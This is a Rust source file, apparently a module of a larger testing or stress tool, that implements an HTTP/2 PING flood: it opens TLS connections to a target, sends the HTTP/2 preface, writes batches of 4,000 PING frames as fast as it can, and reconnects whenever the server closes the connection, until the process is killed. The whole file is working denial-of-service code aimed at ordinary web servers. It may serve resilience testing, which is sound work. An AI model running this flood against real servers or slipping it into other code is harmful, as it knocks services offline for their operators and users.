//! A client that sends HTTP/2 PING frames as fast as it can, and connects again each time that the
//! server ends the connection, until the process is killed.

use std::pin::pin;

use anyhow::Result;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    runtime::Builder,
};

use crate::{
    plan::Plan,
    tls::{self, Stream},
};

/// The preface, and SETTINGS without a value.
const OPENING: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
const PING: &[u8] = b"\0\0\x08\x06\0\0\0\0\0\0\0\0\0\0\0\0\0";
/// The number of frames in one write.
const BATCH: usize = 4_000;

/// Prints `{"flood":"begun"}` once the first connection is open.
pub(crate) fn run(plan: &Plan) -> Result<()> {
    let runtime = Builder::new_current_thread().enable_all().build()?;
    runtime.block_on(async {
        let mut begun = false;
        loop {
            let (mut stream, _) =
                tls::connect(plan.address, &plan.host()?.name, &plan.config).await?;
            stream.write_all(OPENING).await?;
            if !std::mem::replace(&mut begun, true) {
                println!("{}", serde_json::json!({ "flood": "begun" }));
            }
            flood(stream).await;
        }
    })
}

/// Returns when the server ends the connection.
async fn flood(stream: Stream) {
    let (mut reader, mut writer) = tokio::io::split(stream);
    let sending = pin!(async {
        let batch = PING.repeat(BATCH);
        while writer.write_all(&batch).await.is_ok() {}
    });
    let receiving = pin!(async {
        let mut answers = vec![0; 64 * 1024];
        while reader.read(&mut answers).await.is_ok_and(|received| received > 0) {}
    });
    tokio::select! {
        () = sending => {}
        () = receiving => {}
    }
}
